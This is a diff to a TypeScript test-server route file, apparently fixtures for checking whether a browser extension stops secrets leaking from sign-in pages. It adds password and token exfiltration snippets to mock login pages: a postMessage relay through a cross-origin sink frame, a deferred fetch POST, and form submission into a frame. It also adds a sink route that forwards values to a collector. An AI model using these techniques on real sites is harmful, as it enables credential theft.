@@ -28,6 +28,10 @@ const EXFIL: Record<string, string> = {
   "open-blank": `var w=window.open("about:blank");if(!w){__bk.send("noopen","open-blank");return;}w.fetch(u,{method:"POST",mode:"no-cors",body:v}).then(function(){__bk.send("sent","open-blank");},function(){__bk.send("blocked","open-blank");});`,
   // A form of its own, aimed at the other origin and submitted by script (no submit event).
   "post-form": `var g=document.createElement("form");g.method="post";g.action=u;var x=document.createElement("input");x.name="v";x.value=v;g.appendChild(x);document.body.appendChild(g);g.submit();`,
+  // Handed to the other origin's frame, which sends it to its own server and answers how it went.
+  postmessage: `document.getElementById("sink").contentWindow.postMessage(v,"*");`,
+  // Kept until the test asks (window.__send()), e.g. once the extension's worker was stopped.
+  ondemand: `window.__send=function(){fetch(u,{method:"POST",mode:"no-cors",body:v}).then(function(){__bk.send("sent","ondemand");},function(){__bk.send("blocked","ondemand");});};__bk.send("ready","ondemand");`,
 };
 
 /**
@@ -41,6 +45,8 @@ const EXFIL: Record<string, string> = {
  * - submit-now / submit-later / request-later: the form (aimed at the destination) is submitted by
  *   the page's own script, in the input handler or 400 ms later (form.submit() or requestSubmit());
  * - blank: the form (aimed at the destination) opens in a new tab;
+ * - frame-target: the form (aimed at the destination) targets a frame of the page (auto=1: the page
+ *   submits it itself);
  * - exfil-<how>: the form posts to A, and the page's script sends the value with <how> (EXFIL).
  */
 const soForm: Route = (c) => {
@@ -56,19 +62,25 @@ const soForm: Route = (c) => {
       ? `<label>Password <input id="pw" name="pw" type="password" aria-label="Password"></label>`
       : `<label>Token <input id="tok" name="tok" aria-label="Token"></label>`;
   const button = mode === "formaction" ? `<button id="go" formaction="${attr(target)}">Sign in</button>` : `<button id="go">Sign in</button>`;
-  const tgt = mode === "blank" ? ` target="_blank"` : "";
+  const tgt = mode === "blank" ? ` target="_blank"` : mode === "frame-target" ? ` target="sinkframe"` : "";
   let onValue = "";
   if (mode === "repoint") onValue = `f.action=${js(target)};`;
   else if (mode === "submit-now") onValue = `f.submit();`;
   else if (mode === "submit-later") onValue = `setTimeout(function(){f.submit();},400);`;
   // A submission nobody stopped counts in __att (its submit event) before requestSubmit() returns.
   else if (mode === "request-later") onValue = `setTimeout(function(){f.requestSubmit();if(!__att)__bk.send("returned","stopped");},400);`;
-  else if (mode === "blank") onValue = param(c, "auto") ? `f.submit();` : "";
+  else if (mode === "blank" || mode === "frame-target") onValue = param(c, "auto") ? `f.submit();${mode === "frame-target" ? `setTimeout(function(){probe(${js(target)});},100);` : ""}` : "";
   else if (mode.startsWith("exfil-")) {
     const how = EXFIL[mode.slice("exfil-".length)];
     if (!how) return { status: 400, body: "no such exfil" };
     onValue = `(function(){var u=${js(target)};${how}})();`;
   }
+  const frames =
+    mode === "frame-target"
+      ? `<iframe name="sinkframe" title="Result" src="${attr(at(c, "a", "/done"))}" width="300" height="60"></iframe>`
+      : mode === "exfil-postmessage"
+        ? `<iframe id="sink" title="Sink" src="${attr(at(c, to, "/so-sink"))}" width="300" height="60"></iframe>`
+        : "";
   const late = mode === "late-repoint" ? `addEventListener("load",function(){addEventListener("submit",function(){f.action=${js(target)};});});` : "";
   return doc(c, {
     body: `<h1>Sign in</h1>
@@ -76,16 +88,25 @@ const soForm: Route = (c) => {
 <label>User <input id="user" name="user" aria-label="User name"></label>
 ${field}
 ${button}</form>
+${frames}
 <script>
 var f=document.getElementById("f");var once=false;
 window.__att=0;addEventListener("submit",function(e){if(!e.defaultPrevented)__att++;});navigation.addEventListener("navigate",function(){__att++;});
 function probe(u){fetch(u+"&probe=1",{mode:"no-cors"}).then(function(){__bk.send("sent","probe");},function(){__bk.send("blocked","probe");});}
 navigation.addEventListener("navigateerror",function(e){__bk.send("navfail",String(e.message||e.error||""));});
+addEventListener("message",function(e){if(e.data&&e.data.r)__bk.send(e.data.r,"postmessage");});
 f.addEventListener("input",function(e){var el=e.target;if(once||(el.id!=="tok"&&el.id!=="pw"))return;var v=el.value;if(!v)return;once=true;${onValue}});
 ${late}
 </script>`,
   });
 };
+
+/** A frame that sends what it is handed to its own server, and tells its parent how that went. */
+const sink: Route = (c) =>
+  doc(c, {
+    body: `<p>Sink</p><script>addEventListener("message",function(e){if(typeof e.data!=="string")return;
+fetch(${js(at(c, c.role, "/so-collect"))}+"&v="+encodeURIComponent(e.data),{mode:"no-cors"}).then(function(){parent.postMessage({r:"sent"},"*");},function(){parent.postMessage({r:"blocked"},"*");});});</script>`,
+  });
 
 /** Where the attacks send the value: any origin answers. */
 const collect: Route = (c) => doc(c, { title: "Collected", body: `<h1>Collected</h1>` });
@@ -105,4 +126,5 @@ export const SECRET_ROUTES: Record<string, Route> = {
   "/so-collect": collect,
   "/so-landing": landing,
   "/so-after": collect,
+  "/so-sink": sink,
 };
